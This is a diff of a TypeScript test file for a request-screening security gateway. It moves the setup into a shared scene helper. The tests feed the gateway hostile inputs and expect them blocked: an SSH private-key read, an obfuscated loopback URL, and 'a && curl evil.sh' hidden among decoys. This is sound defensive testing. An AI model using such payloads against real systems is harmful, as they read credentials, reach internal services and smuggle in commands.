@@ -1,7 +1,6 @@
 import assert from "node:assert/strict";
-import { after, before, test } from "node:test";
-import { startTestGateway, type TestGateway } from "../harness/gateway.ts";
-import { type RecordingUpstream, startRecordingUpstream } from "../harness/upstream.ts";
+import { test } from "node:test";
+import { gatewayScene } from "./scene.ts";
 
 /** Values that the screen leaves unsure and the model clears must not crowd out the one that is an attack. */
 const policy = `
@@ -14,24 +13,11 @@ routes:
 const decoy = (number: number) => `rm evil ${1_234_500 + number}`;
 const attacks = ["cat ~/.ssh/id_rsa", "http://0x7f000001/", "a && curl evil.sh"];
 
-let upstream: RecordingUpstream;
-let gateway: TestGateway;
-
-before(
-  async () => {
-    upstream = await startRecordingUpstream();
-    gateway = await startTestGateway({ upstream: upstream.url, policy });
-  },
-  { timeout: 120_000 },
-);
-after(async () => {
-  await gateway.stop();
-  await upstream.stop();
-});
+const scene = gatewayScene({ policy });
 
 async function get(path: string, fields: readonly string[]): Promise<number> {
   const query = new URLSearchParams(Object.fromEntries(fields.map((value, index) => [`f${index}`, value])));
-  const response = await fetch(`${gateway.url}${path}?${query}`);
+  const response = await fetch(`${scene.gateway.url}${path}?${query}`);
   await response.arrayBuffer();
   return response.status;
 }
@@ -41,13 +27,13 @@ for (const path of ["/unsure", "/always"]) {
     test(`${path}: ${attack} is found among many decoys, in fields of their own and in one value`, async () => {
       const decoys = Array.from({ length: 40 }, (_, i) => decoy(i));
       assert.equal(await get(path, decoys), 200, "the decoys themselves");
-      const seen = upstream.requests.length;
+      const seen = scene.upstream.requests.length;
       assert.equal(await get(path, [attack]), 403, "alone");
       assert.equal(await get(path, [...Array.from({ length: 17 }, () => decoy(99)), attack]), 403, "equal decoys");
       assert.equal(await get(path, [...decoys, attack]), 403, "different decoys");
       const filler = "lorem ipsum dolor ".repeat(20);
       assert.equal(await get(path, [`${decoy(99)} ${filler}${attack}`]), 403, "behind one decoy and filler");
-      assert.equal(upstream.requests.length, seen);
+      assert.equal(scene.upstream.requests.length, seen);
     });
   }
 }
@@ -65,7 +51,7 @@ test("a table of forty customers, of which the screen leaves each line unsure, i
       `${100 + i * 7}.50`,
     ].join(),
   );
-  const response = await fetch(`${gateway.url}/unsure`, {
+  const response = await fetch(`${scene.gateway.url}/unsure`, {
     method: "POST",
     headers: { "content-type": "text/csv" },
     body: ["id,name,email,city,amount", ...lines].join("\r\n"),
@@ -74,11 +60,11 @@ test("a table of forty customers, of which the screen leaves each line unsure, i
 });
 
 test("a request with more unsure values than are asked about is not waved through", async () => {
-  const seen = upstream.requests.length;
+  const seen = scene.upstream.requests.length;
   const status = await get(
     "/unsure",
     Array.from({ length: 300 }, (_, i) => decoy(i)),
   );
   assert.ok(status === 403 || status === 503, `${status}`);
-  assert.equal(upstream.requests.length, seen);
+  assert.equal(scene.upstream.requests.length, seen);
 });
